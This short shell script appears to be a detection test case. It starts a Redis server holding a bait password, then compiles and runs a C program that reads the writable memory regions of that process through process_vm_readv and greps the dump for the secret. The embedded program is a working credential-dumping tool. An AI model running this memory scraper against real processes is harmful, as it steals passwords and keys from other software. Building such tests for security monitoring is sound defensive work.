#!/bin/sh
. /opt/case/case.sh

redis-server --port 6390 --requirepass bait-in-memory-4711 --save '' >/dev/null & victim=$!
sleep 1
cat >/tmp/m.c <<'END'
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/uio.h>
int main(int c, char **v) {
    char name[64], line[512]; static char b[1 << 20]; unsigned long from, to; char r;
    sprintf(name, "/proc/%s/maps", v[c - 1]); FILE *f = fopen(name, "r");
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%lx-%lx r%c", &from, &to, &r) == 3 && r == 'w')
            for (; from < to; from += sizeof b) {
                struct iovec l = { b, sizeof b }, o = { (void *)from, to - from < sizeof b ? to - from : sizeof b };
                long n = process_vm_readv(atoi(v[1]), &l, 1, &o, 1, 0); if (n > 0) fwrite(b, 1, n, stdout);
            }
    return 0;
}
END
gcc -o /tmp/m /tmp/m.c && /tmp/m $victim | strings | grep -q bait-in-memory-4711
kill $victim
took_place
